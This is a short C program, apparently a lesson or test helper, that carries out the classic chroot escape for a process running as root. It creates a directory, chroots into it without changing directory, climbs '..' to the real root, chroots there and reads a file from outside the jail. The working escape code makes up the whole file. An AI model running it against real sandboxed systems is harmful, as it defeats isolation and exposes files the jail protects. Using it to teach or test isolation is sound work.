// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * chroot_escape FILE: the classic way out of a chroot for a process that is root in it, as
 * scripts/lessons/escape shows it. mkdir a directory, chroot(2) into it without changing
 * directory (the working directory is now outside the root), chdir("..") until it no longer
 * moves (".." of the real root is the root itself), chroot(".") there; then read FILE.
 * Prints each step and FILE's first line; exits 0 when FILE was read, 1 when it was not
 * there, 2 when a step failed. Static, so it runs inside a bare image.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int step_failed(const char *call)
{
	printf("%s: %s\n", call, strerror(errno));
	return 2;
}

int main(int argc, char *argv[])
{
	const char *hatch = "/.escape";
	struct stat st, up;
	char line[512];
	FILE *f;
	int n = 0;

	if (argc != 2) {
		fprintf(stderr, "usage: chroot_escape FILE\n");
		return 2;
	}
	if (mkdir(hatch, 0700) < 0 && errno != EEXIST)
		return step_failed("mkdir(\"/.escape\")");
	printf("mkdir(\"/.escape\")\n");
	if (chroot(hatch) < 0)
		return step_failed("chroot(\"/.escape\")");
	printf("chroot(\"/.escape\")    (cwd stays outside it)\n");
	/* Up until ".." is "." itself: that is the real root of the mount namespace. */
	for (;;) {
		if (stat(".", &st) < 0 || stat("..", &up) < 0)
			return step_failed("stat(\"..\")");
		if (st.st_dev == up.st_dev && st.st_ino == up.st_ino)
			break;
		if (chdir("..") < 0)
			return step_failed("chdir(\"..\")");
		n++;
	}
	printf("chdir(\"..\") x %d\n", n);
	if (chroot(".") < 0)
		return step_failed("chroot(\".\")");
	printf("chroot(\".\")\n");
	printf("open(\"%s\")\n", argv[1]);
	f = fopen(argv[1], "re");
	if (!f) {
		printf("  %s\n", strerror(errno));
		return 1;
	}
	if (fgets(line, sizeof(line), f))
		printf("  %s", line);
	fclose(f);
	return 0;
}
